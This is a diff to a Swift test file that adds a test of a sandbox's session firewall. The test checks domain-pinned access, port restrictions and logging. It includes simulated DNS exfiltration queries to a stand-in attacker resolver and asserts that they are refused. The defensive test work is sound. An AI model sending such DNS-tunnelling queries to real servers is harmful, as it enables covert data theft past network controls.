@@ -175,6 +175,30 @@ import CagentCore
         }
     }
 
+    /// The merge wiring: NetworkSession's firewall (redirect, allow sets keyed address . proto . port, log
+    /// group) with the gate pinning through SessionFirewall and the reader on the session's nflog group.
+    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent"))
+    func withTheSessionFirewall() throws {
+        try Requirements.root()
+        let lab = try GateLab(productFirewall: true)
+        defer { lab.close() }
+        try lab.startSessionGate(domains: ["www.allowed.test"])
+        // Control: the web server is not reachable by address before the lookup.
+        #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80/").status != 0)
+        #expect(dig(lab, "+short www.allowed.test").contains("203.0.113.80"))
+        #expect(lab.inSandbox("curl -s -m 3 http://www.allowed.test/").output.contains("hello"))
+        // Pinned for tcp/80 and tcp/443 only (a domains: entry), not for other ports.
+        #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80:8080/").status != 0)
+        // Exfiltration through any resolver goes nowhere; the host-side control reaches the attacker.
+        #expect(lab.inHost("dig +short +time=2 +tries=1 @203.0.113.66 control.attacker.test").output.contains("203.0.113.99"))
+        _ = dig(lab, "@203.0.113.66 s1.attacker.test")
+        _ = dig(lab, "+tcp @203.0.113.66 TXT s2.attacker.test")
+        let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control.attacker.test ") }
+        #expect(leaks.isEmpty, "\(leaks)")
+        #expect(lines(lab, "cagent: refused DNS s1.attacker.test (not in profile)").count == 1, "\(lab.reported)")
+        #expect(lines(lab, "cagent: blocked tcp 203.0.113.80:8080 (www.allowed.test)").count == 1, "\(lab.reported)")
+    }
+
     @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent"))
     func pinsCarryTheEntrysPortsAndTheClampedTTL() throws {
         try withLab { lab in
